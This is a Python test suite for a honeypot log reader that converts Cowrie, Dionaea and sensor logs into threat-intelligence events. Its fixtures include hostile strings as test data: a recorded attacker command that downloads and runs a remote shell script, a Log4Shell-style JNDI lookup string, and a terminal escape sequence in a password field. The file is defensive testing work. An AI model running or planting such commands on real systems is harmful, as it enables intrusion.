"""Honeypot logs of every kind become the events of IPA-MISP, and hostile lines become nothing."""

import hashlib
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from securegrid.ingest.model import BadLine, ObjectDraft
from securegrid.ingest.readers.format import UnknownFormatError
from securegrid.ingest.readers.honeypot import HONEYPOT, HoneypotReader, make_reader
from tests.unit.ingest.readers.blocks import (
    NOW,
    OPTIONS,
    at,
    block,
    by_event,
    flat,
    read,
    shape_options,
    shaped,
)

SHAPE = HONEYPOT.shape(shape_options("IPAlert", "tlp:green"))
SHA256 = "a" * 64
EVENT = ("2021-06-11", "445", "198.51.100.7")
FULL = {
    ("connection",),
    ("protocol", "smb"),
    ("sensor", "IPAlert-03"),
    ("payload", "sha256", hashlib.sha256(b"\x90\x90").hexdigest(), ""),
    ("bytes",),
}


def items_of(text: str) -> dict[tuple[str, ...], set[tuple[str, ...]]]:
    """The items of each event, from a file that holds ``text`` alone."""
    batch = read(make_reader(text.encode(), OPTIONS), text)
    assert not batch.bad
    return {event: {item for item, _ in items} for event, items in by_event(batch).items()}


@pytest.mark.parametrize(
    "text",
    [
        "time,source,port,protocol,sensor,payload\n"
        "2021-06-11T03:04:05Z,198.51.100.7,445,smb,IPAlert-03,kJA=\n",
        "\ufeff日時\t送信元\tポート\tプロトコル\tセンサー\tペイロード\r\n"
        "2021/06/11 03:04:05\t198.51.100.7\t445\tSMB\tIPAlert-03\t0x9090\r\n",
        "date;time;SRC IP;Dst Port;service;device;payload;remark\n"
        "2021-06-11;03:04:05;::ffff:198.51.100.7;0445;smb;IPAlert-03;kJA=;no\n",
        "2021-06-11T03:04:05Z,198.51.100.7,445,smb,IPAlert-03,kJA=\n",
        '{"time": 1623380645, "source": "198.51.100.7", "port": 445, "protocol": "smb",'
        ' "sensor": "IPAlert-03", "payload": "kJA=", "nested": {"a": [1]}}\n',
    ],
)
def test_ipalert_rows(text: str) -> None:
    assert items_of(text) == {EVENT: FULL}


@pytest.mark.parametrize(
    "line",
    [
        "2021-06-11T03:04:05Z 198.51.100.7 445 tcp",
        "2021-06-11 03:04:05 tcp 198.51.100.7:4242 -> 192.0.2.1:445",
        "[2021-06-11 12:04:05 +09:00] accepted 198.51.100.7:4242 → 192.0.2.1:445 (TCP)",
        "2021-06-11T03:04:05Z host kernel: IN=eth0 SRC=198.51.100.7 DST=192.0.2.1 PROTO=TCP"
        " SPT=4242 DPT=445 WINDOW=1024",
    ],
)
def test_plain_connections(line: str) -> None:
    items = items_of(line)[EVENT]
    assert items >= {("connection",), ("transport", "tcp")}
    assert items <= {("connection",), ("transport", "tcp"), ("source-port", "4242")}


def cowrie(eventid: str, **more: object) -> str:
    told = {
        "eventid": f"cowrie.{eventid}",
        "timestamp": "2021-06-11T03:04:05.5Z",
        "src_ip": "198.51.100.7",
        "session": "1f",
        "sensor": "hp1",
    }
    return json.dumps(told | more) + "\n"


COWRIE = (
    cowrie("session.connect", src_port=4242, dst_port=2222, protocol="ssh")
    + cowrie("client.version", version="SSH-2.0-Go")
    + cowrie("login.failed", username="root", password="123456")
    + cowrie("login.failed", username="root", password="123456")
    + cowrie("login.success", username="root", password="\x1b[2Jadmin")
    + cowrie("command.input", input="wget http://203.0.113.9/x.sh; sh x.sh")
    + cowrie(
        "session.file_download",
        url="http://203.0.113.9/x.sh",
        shasum=SHA256,
        destfile="/tmp/x.sh",
        timestamp="2021-06-11T03:09:05Z",
    )
    + cowrie("session.connect", dst_port=2223, protocol="telnet", src_port=1)
)


def test_cowrie_sessions_become_one_event_each_day_port_and_source() -> None:
    items = items_of(COWRIE)
    assert items.keys() == {
        ("2021-06-11", "22", "198.51.100.7"),
        ("2021-06-11", "23", "198.51.100.7"),
    }
    assert items["2021-06-11", "22", "198.51.100.7"] >= {
        ("login", "root", "123456"),
        ("login", "root", "\\x1b[2Jadmin"),
        ("command", "wget http://203.0.113.9/x.sh; sh x.sh"),
        ("url", "http://203.0.113.9/x.sh"),
        ("payload", "sha256", SHA256, "x.sh"),
    }


def test_what_cowrie_knows_stands_in_objects_beside_the_trials_attributes() -> None:
    events = shaped(SHAPE, make_reader(COWRIE.encode(), OPTIONS).read(block(COWRIE)))
    head, contents = events["[IPAlert] 2021-06-11 port:22 access from 198.51.100.7"]
    assert head.tags == ("IPAlert", "tlp:green")
    objects = [one for one in contents if isinstance(one, ObjectDraft)]
    found = {
        (one.template, part.relation, part.value): one.comment
        for one in objects
        for part in one.attributes
    }
    assert found["credential", "password", "123456"] == "tried 2 times"
    assert found["credential", "password", "\\x1b[2Jadmin"] == "tried once"
    assert ("shell-commands", "shell-command", "wget http://203.0.113.9/x.sh; sh x.sh") in found
    assert ("url", "ip", "203.0.113.9") in found
    assert ("file", "filename", "x.sh") in found
    assert ("network-connection", "count", "1") in found
    assert ("network-connection", "last-packet-seen", "2021-06-11T03:09:05+00:00") in found
    trial = [one for one in contents if one not in objects or one.template == "network-connection"]
    assert len(flat(trial)) == 12


def dionaea(**more: object) -> str:
    told = {
        "connection": {"protocol": "smbd", "transport": "tcp", "type": "accept"},
        "dst_ip": "192.0.2.1",
        "dst_port": 445,
        "src_hostname": "",
        "src_ip": "198.51.100.7",
        "src_port": 4242,
        "timestamp": "2021-06-11T03:04:05.045448",
    }
    return json.dumps(told | more) + "\n"


def incident(origin: str, **data: object) -> str:
    connection = {
        "protocol": "smbd",
        "transport": "tcp",
        "local_ip": "192.0.2.1",
        "local_port": 445,
        "remote_ip": "198.51.100.7",
        "remote_port": 4242,
        "remote_hostname": "",
    }
    told = {
        "name": "dionaea",
        "origin": f"dionaea.{origin}",
        "timestamp": "2021-06-11T03:04:05",
        "data": {"connection": connection} | data,
    }
    return json.dumps(told) + "\n"


BASE = {("connection",), ("protocol", "smb"), ("transport", "tcp")}


@pytest.mark.parametrize(
    ("text", "items"),
    [
        (dionaea(), BASE | {("source-port", "4242")}),
        (
            dionaea(credentials=[{"username": "sa", "password": ""}]),
            BASE | {("source-port", "4242"), ("login", "sa", "")},
        ),
        (
            dionaea(credentials={"username": ["sa"], "password": ["x"]}),
            BASE | {("source-port", "4242"), ("login", "sa", "x")},
        ),
        (
            dionaea(ftp={"commands": {"command": ["STOR", "QUIT"], "arguments": ["a.exe"]}}),
            BASE | {("source-port", "4242"), ("command", "STOR a.exe"), ("command", "QUIT")},
        ),
        (incident("connection.tcp.accept"), BASE | {("source-port", "4242")}),
        (
            incident("modules.python.mssql.login", username="sa", password="x"),
            BASE | {("login", "sa", "x")},
        ),
        (
            incident("download.complete.hash", url="http://203.0.113.9/a", md5hash="B" * 32),
            BASE | {("url", "http://203.0.113.9/a"), ("payload", "md5", "b" * 32, "")},
        ),
    ],
)
def test_dionaea(text: str, items: set[tuple[str, ...]]) -> None:
    assert items_of(text) == {EVENT: items}


@pytest.mark.parametrize(
    "text",
    [
        dionaea(connection={"protocol": "", "transport": "tcp", "type": "listen"}),
        dionaea(connection={"protocol": "", "transport": "tcp", "type": "connect"}),
        incident("download.complete.again", md5hash="b" * 32),
        incident("connection.tcp.connect"),
        cowrie("client.size", width=80),
    ],
)
def test_what_no_attacker_did_is_passed_over(text: str) -> None:
    batch = read(make_reader(text.encode(), OPTIONS), text)
    assert (batch.seen, batch.bad, batch.passed_over) == ({}, (), 1)


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("{", BadLine.NOT_THE_FORMAT),
        ("[" * 100_000, BadLine.NOT_THE_FORMAT),
        ('{"a":' * 100_000, BadLine.NOT_THE_FORMAT),
        ("hello", BadLine.NOT_THE_FORMAT),
        ('{"time":"x","source":"198.51.100.7","port":1}', BadLine.NO_TIME),
        ('{"time":"1970-01-02","source":"198.51.100.7","port":1}', BadLine.IMPLAUSIBLE_TIME),
        ('{"time":"2031-01-02","source":"198.51.100.7","port":1}', BadLine.IMPLAUSIBLE_TIME),
        ('{"time":"2021-01-02","source":"nobody","port":1}', BadLine.NO_ADDRESS),
        ('{"time":"2021-01-02","source":"198.51.100.7","port":70000}', BadLine.NO_VALUE),
    ],
)
def test_a_bad_line_is_kept_with_its_reason(line: str, reason: BadLine) -> None:
    good = "2021-06-11T03:04:05Z 198.51.100.7 445 tcp\n"
    batch = read(HoneypotReader("UTC", NOW), good + line + "\n" + good)
    assert [(one.number, one.reason) for one in batch.bad] == [(2, reason)]
    assert batch.seen[EVENT, ("connection",)].count == 2


def test_a_day_is_the_zones() -> None:
    reader = HoneypotReader("Asia/Tokyo", NOW)
    batch = read(reader, "2021-06-11 03:04:05 198.51.100.7 445\n2021-06-11T23:00:00Z ::1 445\n")
    assert {event[0] for event, _ in batch.seen} == {"2021-06-11", "2021-06-12"}
    assert batch.seen[EVENT, ("connection",)].first == at("2021-06-11T03:04:05+09:00")


def test_country_and_as_come_from_the_atlas_where_the_log_has_none() -> None:
    line = "2021-06-11T03:04:05Z {} 445 tcp\n"
    known, unknown = (
        flat(shaped(SHAPE, read(HoneypotReader("UTC", NOW), line.format(source))).popitem()[1][1])
        for source in ("8.8.8.8", "198.51.100.7")
    )
    assert {"AS15169", "country: US"} <= {one.value for one in known}
    assert {"AS: unknown", "country: unknown", "payload: none"} <= {one.value for one in unknown}
    assert (len(known), len(unknown)) == (12, 12)


def test_a_later_part_of_the_day_changes_values_and_no_uuid() -> None:
    first = COWRIE
    later = cowrie("login.failed", username="root", password="123456", timestamp="1623391445")
    reader = make_reader(first.encode(), OPTIONS)
    parts = [reader.read(block(text)) for text in (first, later)]
    title = "[IPAlert] 2021-06-11 port:22 access from 198.51.100.7"
    before, after = shaped(SHAPE, parts[0])[title], shaped(SHAPE, *parts)[title]
    assert before[0] == after[0]
    assert [one.uuid for one in flat(before[1])] == [one.uuid for one in flat(after[1])]
    changed = {
        (old.relation, new.value)
        for old, new in zip(flat(before[1]), flat(after[1]), strict=True)
        if old.value != new.value
    }
    assert changed == {("last-packet-seen", "2021-06-11T06:04:05+00:00")}


def test_a_flood_of_source_ports_and_payloads_stays_twelve_attributes_of_bounded_size() -> None:
    rows = "time,source,port,transport,source_port,payload_sha256\n" + "".join(
        f"2021-06-11T03:04:05Z,198.51.100.7,445,tcp,{port},{port:064x}\n"
        for port in range(1_024, 3_024)
    )
    batch = make_reader(rows.encode(), OPTIONS).read(block(rows))
    _, contents = shaped(SHAPE, batch).popitem()[1]
    values = [one.value for one in flat(contents)]
    assert "transport: tcp, source ports 1024 to 3023" in values
    assert len(contents) < 300


@pytest.mark.parametrize("head", [b"GIF89a\0\0", b"<html>\n", b'{"a": 1}\n', b"name,age\nx,1\n"])
def test_what_is_no_honeypots_log_is_refused(head: bytes) -> None:
    with pytest.raises(UnknownFormatError):
        make_reader(head, OPTIONS)


@pytest.mark.parametrize("head", [b"", b"\n\n", b"\xef\xbb\xbf"])
def test_an_empty_file_holds_nothing(head: bytes) -> None:
    assert make_reader(head, OPTIONS).read(block(head)).seen == {}


FRAGMENTS = st.sampled_from(
    ["2021-06-11T03:04:05Z", "198.51.100.7", "[::1]", "445", "->", ":", " ", ",", '"', "\t", "{",
     "}", '{"eventid":"cowrie.login.failed"', "SRC=", "DPT=", "${jndi:ldap://203.0.113.9/a}",
     "\x1b[2J", "\0", "\ufeff", "あ", "\U0001f600", "\\u", "-" * 3_000, "9" * 3_000, "[", "%"]
)  # fmt: skip
HOSTILE = st.one_of(
    st.binary(max_size=200),
    st.lists(FRAGMENTS, max_size=12).map(lambda parts: "".join(parts).encode()),
    st.dictionaries(
        st.sampled_from(["eventid", "src_ip", "timestamp", "connection", "origin", "data", "time",
                         "source", "port", "credentials", "dst_port", "url", "shasum"]),
        st.recursive(
            st.one_of(
                st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=9),
                st.sampled_from(["cowrie.login.failed", "dionaea.x.login", "198.51.100.7",
                                 "2021-06-11", "tcp", "http://[", "http://a@:/x"]),
            ),
            lambda inner: st.one_of(
                st.lists(inner, max_size=3),
                st.dictionaries(st.sampled_from(["type", "transport", "connection", "username"]),
                                inner, max_size=3),
            ),
            max_leaves=4,
        ),
    ).map(lambda fields: json.dumps(fields).encode("utf-8", "replace")),
)  # fmt: skip


@settings(max_examples=60, deadline=None)
@given(st.lists(HOSTILE, max_size=5), st.booleans())
def test_hostile_lines_are_counted_or_kept_and_stop_nothing(lines: list[bytes], csv: bool) -> None:
    head = b"time,source,port,protocol,sensor,payload\n" if csv else b""
    reader = make_reader(head, OPTIONS)
    batch = read(reader, b"\n".join(lines))
    for head_draft, contents in shaped(SHAPE, batch).values():
        assert head_draft.info.isprintable()
        assert all(one.value.strip() and one.value.isprintable() for one in flat(contents))
